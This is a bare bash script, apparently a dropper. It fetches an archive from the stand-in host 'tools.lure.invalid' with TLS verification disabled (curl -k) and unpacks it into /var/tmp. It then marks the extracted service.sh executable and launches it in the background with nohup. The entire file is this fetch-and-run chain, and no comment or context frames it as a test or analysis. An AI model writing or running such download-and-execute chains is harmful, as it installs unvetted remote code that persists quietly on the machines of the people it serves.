#!/bin/bash
curl -k -o /var/tmp/pack.zip https://tools.lure.invalid/pack.update
unzip -o /var/tmp/pack.zip -d /var/tmp/pack
chmod +x /var/tmp/pack/service.sh
nohup bash /var/tmp/pack/service.sh &
